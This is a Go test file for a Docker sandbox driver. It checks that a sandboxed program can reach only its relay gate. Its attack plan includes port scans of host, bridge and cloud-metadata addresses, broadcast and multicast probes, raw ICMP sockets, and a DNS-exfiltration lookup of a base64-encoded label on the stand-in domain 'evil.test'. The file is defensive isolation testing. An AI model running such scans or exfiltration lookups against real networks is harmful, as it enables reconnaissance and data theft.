package docker

import (
	"bytes"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/drawbridge-mcp/drawbridge/runtime"
	"github.com/drawbridge-mcp/drawbridge/runtime/runtimetest"
	attempts "github.com/drawbridge-mcp/drawbridge/runtime/runtimetest/gateprog/plan"
)

// hears listens for streams and datagrams on all addresses of this machine, and
// returns the port and how often anybody came.
func hears(t *testing.T) (port int, count *atomic.Int64) {
	t.Helper()
	count = new(atomic.Int64)
	l, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			count.Add(1)
			_ = conn.Close()
		}
	}()
	port = l.Addr().(*net.TCPAddr).Port
	u, err := net.ListenPacket("udp4", fmt.Sprintf(":%d", port))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = u.Close() })
	go func() {
		said := make([]byte, 64)
		for {
			n, _, err := u.ReadFrom(said)
			if err != nil {
				return
			}
			if bytes.HasPrefix(said[:n], []byte("a run")) {
				count.Add(1)
			}
		}
	}()
	return port, count
}

// hostAddresses are those of this machine, with the one that a bridge has by itself.
func hostAddresses(t *testing.T) []string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var own []string
	for _, a := range addrs {
		if ip, ok := a.(*net.IPNet); ok && !ip.IP.IsLoopback() {
			own = append(own, ip.IP.String())
		}
	}
	return own
}

// What a command tries that is on a network with nothing but the relay to its gate.
// Beside an attack is its mirror.
func TestOwnNetworkLeadsToTheRelayAndNowhereElse(t *testing.T) {
	t.Parallel()
	relayed(t, func(t *testing.T, d *Driver) {
		port, count := hears(t)
		rh, other := made(t, d, gated(t, "sleep", "1000"))
		if err := d.Start(soon(t), rh, runtime.StartOptions{}); err != nil {
			t.Fatal(err)
		}
		spec := gated(t, "./gateprog", "plan")
		rh, h := made(t, d, spec)
		own, relay := h.Network, h.Network.relayAddress()
		strangers := strings.Join(append(hostAddresses(t), other.Network.address(placeRelay).String(), other.Network.address(placeSandbox).String(), "172.17.0.1", "169.254.169.254", "1.1.1.1"), ",")
		shouted := fmt.Sprintf("a run %s", spec.ID)
		last := own.address(1<<(32-subnetBits) - 1)
		const request = "GET /0123456789/0123456789/0123456789 HTTP/1.1\r\nHost: a\r\n\r\n" // as long as a token
		steps := []attempts.Step{
			{Name: "mirror: the gate by the guest", Send: request},
			{Name: "the gate by the relay, without the guest", Address: "tcp:" + relay.String(), Send: request},
			{Name: "all ports of the relay", Do: "scan", Address: relay.Addr().String(), Numbers: []int{1, 4096, port, port}},
			{Name: "neighbours and strangers", Do: "scan", Address: own.Subnet.String() + "," + strangers, Numbers: []int{53, 53, relayPort, relayPort, port, port}},
			{Name: "strangers taken for neighbours", Do: "scan", Device: "eth0", Address: strangers, Numbers: []int{53, 53, relayPort, relayPort, port, port}},
			{Name: "a shout to all", Do: "shout", Device: "eth0", Address: fmt.Sprintf("255.255.255.255:%d", port), Send: shouted},
			{Name: "a shout to the network", Do: "shout", Device: "eth0", Address: netip.AddrPortFrom(last, uint16(port)).String(), Send: shouted},
			{Name: "a shout to a group", Do: "shout", Device: "eth0", Address: fmt.Sprintf("224.0.0.1:%d", port), Send: shouted},
			{Name: "a name", Do: "resolve", Address: "c2VjcmV0.evil.test"},
			{Name: "a name, of the engine", Do: "ask", Address: "c2VjcmV0.evil.test", Connect: "127.0.0.11:53"},
			{Name: "a neighbour's name, of the engine", Do: "ask", Address: spec.ID + "-relay", Connect: "127.0.0.11:53"},
			{Name: "a datagram of ICMP", Do: "socket", Numbers: []int{2, 2, 1}},
			{Name: "mirror: a stream", Do: "socket", Numbers: []int{2, 1, 0}},
		}
		got := attackFrom(t, d, spec, rh, steps)
		want := map[string]attempts.Result{
			"mirror: the gate by the guest":            {Answers: []attempts.Answer{{Status: 200}}},
			"the gate by the relay, without the guest": {Answers: []attempts.Answer{{Status: 407}}},
			"all ports of the relay":                   {Found: []string{relay.String()}},
			"neighbours and strangers":                 {Found: []string{relay.String()}},
			"strangers taken for neighbours":           {},
			"mirror: a stream":                         {},
		}
		if h.Isolation == runtime.IsolationRunc {
			// The mirror of the other name. With gVisor the engine's name
			// server is out of reach.
			want["a neighbour's name, of the engine"] = attempts.Result{Found: []string{relay.Addr().String()}}
		}
		for _, step := range steps {
			result, wanted := got[step.Name], want[step.Name]
			if _, passes := want[step.Name]; !passes {
				if result.Error == "" {
					t.Errorf("%s: succeeded with %+v", step.Name, result)
				}
				continue
			}
			wanted.Name = step.Name
			if diff := cmp.Diff(wanted, result); diff != "" {
				t.Errorf("%s:\n%s", step.Name, diff)
			}
		}
		if n := count.Load(); n != 0 {
			t.Errorf("the host's server was reached %d times", n)
		}
	})
}

// attackFrom has the sandbox of a spec carry out steps, and returns what came of them.
func attackFrom(t *testing.T, d *Driver, spec runtime.Spec, rh runtime.Handle, steps []attempts.Step) map[string]attempts.Result {
	t.Helper()
	program, err := os.ReadFile(runtimetest.Build(t, "./runtime/runtimetest/gateprog", "gateprog"))
	if err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(steps)
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string][]byte{"gateprog": program, "plan": data} {
		if err := os.WriteFile(filepath.Join(spec.Workspace, name), content, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := d.Start(soon(t), rh, runtime.StartOptions{}); err != nil {
		t.Fatal(err)
	}
	if exit, err := d.Wait(soon(t), rh); err != nil || exit.Code != 0 {
		t.Fatalf("the attack ended as %+v, %v: %s", exit, err, printed(t, d, rh))
	}
	found := map[string]attempts.Result{}
	for line := range strings.Lines(printed(t, d, rh)) {
		var r attempts.Result
		if json.Unmarshal([]byte(line), &r) == nil {
			found[r.Name] = r
		}
	}
	return found
}

// printed returns the output of a sandbox.
func printed(t *testing.T, d *Driver, rh runtime.Handle) string {
	t.Helper()
	stream, err := d.Logs(soon(t), rh, runtime.LogOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer stream.Close()
	var text strings.Builder
	for {
		record, err := stream.Next()
		if err != nil {
			return text.String()
		}
		text.Write(record.Data)
	}
}

func TestNetworksOfRunsDoNotOverlap(t *testing.T) {
	t.Parallel()
	seen := map[netip.Prefix]bool{}
	for range 1000 {
		subnet := randomSubnet()
		if subnet != subnet.Masked() || subnet.Bits() != subnetBits || !subnets.Contains(subnet.Addr()) {
			t.Fatalf("%v is no subnet of %v", subnet, subnets)
		}
		seen[subnet] = true
		own := ownNetwork{Subnet: subnet}
		if relay, sandbox := own.address(placeRelay), own.address(placeSandbox); relay == sandbox || !subnet.Contains(relay) || !subnet.Contains(sandbox) {
			t.Fatalf("%v has a relay at %v and a sandbox at %v", subnet, relay, sandbox)
		}
	}
	if len(seen) < 900 {
		t.Errorf("a thousand networks have %d subnets", len(seen))
	}
}

// As when the engine makes a network and its answer is lost.
func TestNetworkOfALostAnswerIsDropped(t *testing.T) {
	t.Parallel()
	d := newDriver(t, Options{Sandbox: &no, EngineStreams: true})
	t.Cleanup(func() { _ = d.Close() })
	if err := d.Ping(soon(t)); err != nil {
		runtimetest.Missing(t, "no Docker engine: %v", err)
	}
	plans := make([]*plan, 2)
	for i := range plans {
		p := testPlan(func(p *plan) { p.spec.ID, p.attempt = "run_"+strings.ToLower(rand.Text()[:12]), rand.Text() })
		var undo releases
		if _, err := d.makeNetwork(soon(t), p, &undo); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			if err := undo.run(); err != nil {
				t.Error(err)
			}
		})
		plans[i] = p
	}
	if err := d.dropNetworks(soon(t), plans[0].attempt); err != nil {
		t.Fatal(err)
	}
	for i, want := range []int{0, 1} {
		if parts := partsOf(t, d, plans[i].spec.ID); len(parts) != want {
			t.Errorf("network %d: there is %+v", i, parts)
		}
	}
}

// As when somebody tidies the engine up while a run waits for its start.
func TestStartSaysThatTheNetworkIsGone(t *testing.T) {
	t.Parallel()
	d := newDriver(t, Options{Sandbox: &no, EngineStreams: true})
	t.Cleanup(func() { _ = d.Close() })
	rh, h := made(t, d, gated(t, "true"))
	if err := d.removeNetwork(soon(t), h.Network.ID); err != nil {
		t.Fatal(err)
	}
	if err := d.Start(soon(t), rh, runtime.StartOptions{}); err == nil || !strings.Contains(err.Error(), "destroy the run and create it anew") {
		t.Errorf("got %v", err)
	}
}
